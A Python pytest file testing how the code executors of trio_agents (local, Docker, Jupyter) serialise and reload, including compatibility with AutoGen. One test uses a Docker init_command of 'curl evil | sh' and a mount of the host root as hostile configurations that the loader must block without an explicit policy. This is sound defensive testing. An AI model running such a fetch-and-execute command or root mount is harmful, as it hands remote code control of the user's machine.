"""Executors as data: ours, and AutoGen's."""

from __future__ import annotations

import json
import subprocess
import sys
import venv
import warnings
from pathlib import Path
from typing import Any

import pytest

from trio_agents import ComponentPolicy
from trio_agents.code_executor import CodeExecutor
from trio_agents.exceptions import ComponentError, ComponentNotAllowed
from trio_agents.ext.code_executors.docker import DockerCommandLineCodeExecutor
from trio_agents.ext.code_executors.jupyter import JupyterCodeExecutor
from trio_agents.ext.code_executors.local import (
    LocalCommandLineCodeExecutor,
    ResourceLimits,
    Sandbox,
)

from .probes import outcome, sh

BASE = "trio_agents.ext.code_executors"


def loaded(executor: Any, policy: ComponentPolicy | None = None) -> CodeExecutor:
    """Send *executor* through JSON."""
    data = json.loads(executor.dump_component().model_dump_json())
    return CodeExecutor.load_component(data, policy=policy)


def config_of(executor: Any) -> dict[str, Any]:
    config: dict[str, Any] = executor.dump_component().config
    return config


def test_a_local_executor_comes_back_as_it_was(tmp_path: Path) -> None:
    executor = LocalCommandLineCodeExecutor(
        5,
        tmp_path,
        functions_module="lib",
        cleanup_temp_files=False,
        sandbox=Sandbox(network=True, read_only=("/data",), writable=("/scratch",)),
        limits=ResourceLimits(cpu_seconds=10),
        kill_grace=3,
        max_output=1000,
    )
    assert executor.dump_component().provider == f"{BASE}.local.LocalCommandLineCodeExecutor"
    again = loaded(executor)
    assert isinstance(again, LocalCommandLineCodeExecutor)
    assert config_of(again) == config_of(executor)


def test_a_docker_executor_comes_back_as_it_was(tmp_path: Path) -> None:
    executor = DockerCommandLineCodeExecutor(
        "python:3.12",
        "mine",
        timeout=5,
        work_dir=tmp_path,
        bind_dir="/host/work",
        auto_remove=False,
        stop_container=False,
        device_requests=[{"Count": -1}],
        functions_module="lib",
        extra_volumes={"/data": {"bind": "/data", "mode": "ro"}},
        extra_hosts={"a": "1.2.3.4"},
        init_command="true",
        delete_tmp_files=True,
        network_mode="none",
        memory=10**9,
        pids_limit=100,
        kill_grace=3,
        max_output=1000,
    )
    assert executor.dump_component().provider == f"{BASE}.docker.DockerCommandLineCodeExecutor"
    again = loaded(executor, ComponentPolicy(code=True))
    assert config_of(again) == config_of(executor)


def test_a_jupyter_executor_comes_back_as_it_was(tmp_path: Path) -> None:
    executor = JupyterCodeExecutor("python3", 5, tmp_path, sandbox=Sandbox(), kill_grace=3)
    assert executor.dump_component().provider == f"{BASE}.jupyter.JupyterCodeExecutor"
    assert config_of(loaded(executor)) == config_of(executor)


@pytest.mark.parametrize(
    "executor",
    [
        LocalCommandLineCodeExecutor(sandbox=Sandbox(), env={"KEY": "canary"}),
        DockerCommandLineCodeExecutor(env={"KEY": "canary"}),
        JupyterCodeExecutor(sandbox=Sandbox(), env={"KEY": "canary"}),
    ],
    ids=["local", "docker", "jupyter"],
)
def test_an_environment_is_dumped_as_secrets(executor: CodeExecutor) -> None:
    model = executor.dump_component()
    assert "canary" not in repr(model) + model.model_dump_json() + repr(vars(executor))
    assert (
        config_of(CodeExecutor.load_component(model))["env"]["KEY"].get_secret_value() == "canary"
    )
    assert config_of(loaded(executor))["env"] == {}


def test_that_there_is_no_sandbox_is_not_for_data_to_decide() -> None:
    executor = LocalCommandLineCodeExecutor(sandbox=None)
    with pytest.warns(UserWarning, match="Pass sandbox="):
        loaded(executor)


def test_functions_cannot_be_dumped() -> None:
    def f() -> None: ...

    for executor in (
        LocalCommandLineCodeExecutor(functions=[f], sandbox=None),
        DockerCommandLineCodeExecutor(functions=[f]),
    ):
        with pytest.raises(ComponentError, match="an executor with functions cannot be dumped"):
            executor.dump_component()


@pytest.mark.parametrize(
    "executor",
    [
        DockerCommandLineCodeExecutor(init_command="curl evil | sh"),
        DockerCommandLineCodeExecutor(extra_volumes={"/": {"bind": "/host"}}),
        DockerCommandLineCodeExecutor(bind_dir="/"),
    ],
    ids=["init_command", "extra_volumes", "bind_dir"],
)
def test_a_command_or_a_directory_of_the_machine_needs_the_policy(
    executor: DockerCommandLineCodeExecutor,
) -> None:
    with pytest.raises(ComponentNotAllowed):
        loaded(executor)
    loaded(executor, ComponentPolicy(code=True))


async def test_a_virtual_environment_needs_the_policy_and_comes_back(tmp_path: Path) -> None:
    builder = venv.EnvBuilder(symlinks=True)
    builder.create(tmp_path / "venv")
    context = builder.ensure_directories(tmp_path / "venv")
    executor = LocalCommandLineCodeExecutor(
        work_dir=tmp_path, virtual_env_context=context, sandbox=Sandbox()
    )
    with pytest.raises(ComponentNotAllowed, match="virtual_env, an interpreter"):
        loaded(executor)
    again = loaded(executor, ComponentPolicy(code=True))
    assert config_of(again) == config_of(executor)
    assert config_of(again)["virtual_env"] == str(tmp_path / "venv")


@pytest.mark.parametrize(
    ("provider", "config"),
    [
        ("local.LocalCommandLineCodeExecutor", {"timeout": 0}),
        ("local.LocalCommandLineCodeExecutor", {"sandbox": {"read_only": ["relative"]}}),
        ("local.LocalCommandLineCodeExecutor", {"sandbox": {"unknown": 1}}),
        ("docker.DockerCommandLineCodeExecutor", {"timeout": "soon"}),
        ("jupyter.JupyterCodeExecutor", {"max_output": -1}),
    ],
)
def test_a_configuration_that_cannot_be_is_refused(provider: str, config: dict[str, Any]) -> None:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", UserWarning)
        with pytest.raises(ValueError, match=r"timeout|read_only|unknown|max_output"):
            CodeExecutor.load_component({"provider": f"{BASE}.{provider}", "config": config})


# Dumped by AutoGen 0.7.5 with all its fields; its Docker executor needs an SDK that is not here.
THEIRS = {
    "docker": {
        "provider": "autogen_ext.code_executors.docker.DockerCommandLineCodeExecutor",
        "component_type": "code_executor",
        "version": 1,
        "component_version": 1,
        "description": "Executes code through a command line environment in a Docker container.",
        "label": "DockerCommandLineCodeExecutor",
        "config": {
            "image": "python:3-slim",
            "container_name": "autogen-code-exec-1",
            "timeout": 60,
            "work_dir": None,
            "bind_dir": None,
            "auto_remove": True,
            "stop_container": True,
            "functions_module": "functions",
            "extra_volumes": {},
            "extra_hosts": {},
            "init_command": None,
            "delete_tmp_files": False,
        },
    },
}


def test_what_autogen_has_dumped_of_its_docker_executor_can_be_loaded() -> None:
    executor = CodeExecutor.load_component(THEIRS["docker"])
    assert isinstance(executor, DockerCommandLineCodeExecutor)
    assert config_of(executor)["container_name"] == "autogen-code-exec-1"


@pytest.mark.parametrize(
    ("module", "name", "arguments"),
    [
        ("local", "LocalCommandLineCodeExecutor", "timeout=7, work_dir={!r}"),
        ("jupyter", "JupyterCodeExecutor", "timeout=7, output_dir={!r}"),
    ],
)
def test_autogen_and_this_library_load_what_the_other_has_dumped(
    tmp_path: Path, module: str, name: str, arguments: str
) -> None:
    # In processes of its own: AutoGen's executors warn, and leave loops behind.
    program = (
        "import sys, warnings; warnings.simplefilter('ignore')\n"
        f"from autogen_ext.code_executors.{module} import {name} as E\n"
    )
    dump = f"print(E({arguments.format(str(tmp_path))}).dump_component().model_dump_json())"
    load = "print(E.load_component(__import__('json').load(sys.stdin)).dump_component().config)"

    def run(last: str, given: str = "") -> str:
        argv = [sys.executable, "-c", program + last]
        done = subprocess.run(
            argv, input=given, capture_output=True, text=True, check=True, timeout=60
        )
        return done.stdout

    with pytest.warns(UserWarning, match="Pass sandbox="):
        executor = CodeExecutor.load_component(json.loads(run(dump)))
    config = config_of(executor)
    assert config["timeout"] == 7
    assert str(tmp_path) in config.values()
    model = executor.dump_component()
    model.provider = f"autogen_ext.code_executors.{module}.{name}"
    assert f"'{tmp_path}'" in run(load, model.model_dump_json())


async def test_a_loaded_executor_runs(tmp_path: Path) -> None:
    executor = LocalCommandLineCodeExecutor(work_dir=tmp_path, sandbox=None)
    with pytest.warns(UserWarning, match="Pass sandbox="):
        again = loaded(executor)
    assert await outcome(again, sh("echo 1")) == (0, "1\n")
